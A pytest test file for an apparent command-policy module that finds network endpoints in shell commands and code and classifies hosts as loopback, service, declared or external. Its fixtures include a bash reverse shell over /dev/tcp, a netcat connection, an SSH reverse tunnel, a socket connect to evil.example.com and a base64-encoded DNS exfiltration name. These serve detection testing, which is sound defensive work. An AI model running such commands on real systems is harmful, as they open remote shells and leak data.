"""Destinations: every network endpoint a call names, and where it is relative to the task."""

from __future__ import annotations

import pytest

from hazmat.policy.endpoints import (
    classify,
    encoded_label,
    endpoints_of_args,
    endpoints_of_text,
    host_like,
)


def eps(command: str, redirects: tuple[tuple[str, str], ...] = ()) -> list[tuple[str, str, str]]:
    name, *args = command.split()
    return [(e.host, e.port, e.how) for e in endpoints_of_args(name, args, redirects)]


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("nc 10.1.2.3 4444", ("10.1.2.3", "4444", "pair")),
        ("ssh -R 8080:localhost:80 user@jump.example.net", ("jump.example.net", "", "user@host")),
        ("mysql -h db.internal -P 3306", ("db.internal", "3306", "flag")),
        ("curl http://[2001:db8::1]:8080/x", ("2001:db8::1", "8080", "url")),
        ("lftp sftp://files.example.org/in", ("files.example.org", "", "url")),
    ],
)
def test_endpoints_in_arguments(command: str, expected: tuple[str, str, str]) -> None:
    assert expected in eps(command)


def test_dev_tcp_redirection_is_an_endpoint() -> None:
    got = eps("bash -i", ((">&", "/dev/tcp/1.2.3.4/9001"),))
    assert got == [("1.2.3.4", "9001", "dev-tcp")]


@pytest.mark.parametrize(
    "command",
    ["python3 setup.py install", "echo http://evil.example.com", "cat README.md", "ls -la src/"],
)
def test_files_and_text_arguments_are_not_endpoints(command: str) -> None:
    assert eps(command) == []


def test_string_literals_of_inline_code() -> None:
    got = {
        (e.host, e.port)
        for e in endpoints_of_text("s.connect(('evil.example.com', 8080)); u='ftp://a.b.org/x'")
    }
    assert got == {("evil.example.com", "8080"), ("a.b.org", "")}


def test_classify_without_declared_hosts() -> None:
    assert classify("127.0.0.1") == "loopback"
    assert classify("::1") == "loopback"
    assert classify("localhost") == "loopback"
    assert classify("$HOST") == "placeholder"
    assert classify("api.github.com") == "external"
    assert classify("10.0.0.5") == "external"
    # without a declaration, a single-label name is taken for a compose-style service
    assert classify("db") == "service"


def test_classify_with_declared_hosts() -> None:
    assert classify("pypi.org", ["pypi.org"]) == "declared"
    assert classify("db", ["db"], declared=True) == "declared"
    # once the task has declared its hosts, an undeclared single-label name is outside it
    assert classify("cache", ["db"], declared=True) == "external"


def test_host_like_tells_names_from_files() -> None:
    assert host_like("evil.example.com")
    assert not host_like("setup.py")
    assert not host_like("README.md")


def test_encoded_labels_in_dns_names() -> None:
    assert encoded_label("aGVsbG8gd29ybGQgdGhpcyBpcyBzZWNyZXQ.evil.com") is not None
    assert encoded_label("www.google.com") is None
